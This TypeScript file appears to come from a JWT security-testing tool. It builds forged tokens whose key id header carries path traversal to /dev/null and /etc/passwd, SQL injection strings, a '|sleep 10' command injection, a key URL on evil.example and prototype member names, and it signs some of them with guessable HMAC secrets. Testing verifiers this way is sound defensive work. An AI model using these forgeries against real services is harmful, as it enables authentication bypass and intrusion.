import { type Forgery, forge, hs, ownHeader, ownSigner, type Spoils } from './forge.ts';

/** Key ids that name a file, a query, a member of every object, or nothing. */
export function keyIdForgeries(spoils: Spoils): readonly Forgery[] {
  const { kid: _, ...anonymous } = ownHeader(spoils);
  const named = (kid: unknown, signer = ownSigner(spoils)) => forge(signer, { ...anonymous, kid }, spoils.claims);
  return [
    ...ids(spoils.kid).map(([name, kid]): Forgery => [`${name} as key id`, named(kid)]),
    ['no key id', forge(ownSigner(spoils), anonymous, spoils.claims)],
    ['a file that is empty, under the empty secret', asHmac(spoils, '/dev/null', '')],
    ['a file that everybody knows, under its content', asHmac(spoils, '/proc/sys/kernel/randomize_va_space', '2\n')],
    ['a query that gives a known secret', asHmac(spoils, "x' UNION SELECT 'known' --", 'known')],
    ['a member of every object, under its text', asHmac(spoils, 'constructor', String(Object))],
  ];
}

function ids(own: string): readonly (readonly [string, unknown])[] {
  return [
    ['an unknown text', 'unknown'],
    ['the empty text', ''],
    ['a path', '../../../../dev/null'],
    ['an absolute path', '/etc/passwd'],
    ['an address', 'https://evil.example/key.pem'],
    ['a query', "' OR 1=1 --"],
    ['a command', `${own}|sleep 10`],
    ...['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'get', 'size'].map(
      (name) => [`the member ${name}`, name] as const,
    ),
    ['a very long text', 'x'.repeat(4000)],
    ['our own in capitals', own.toUpperCase() === own ? own.toLowerCase() : own.toUpperCase()],
    ['our own and a space', `${own} `],
    ['our own and a NUL', `${own}\0`],
    ['our own and more', `${own}x`],
    ['the start of our own', own.slice(0, -1)],
    ['a list of our own', [own]],
    ['an object with our own', { kid: own }],
    ['an object that would turn into our own', { toString: own }],
    ['a number', 1],
    ['zero', 0],
    ['true', true],
    ['null', null],
  ];
}

function asHmac(spoils: Spoils, kid: string, secret: string): string {
  return forge(hs(256, secret), { ...ownHeader(spoils), alg: 'HS256', kid }, spoils.claims);
}
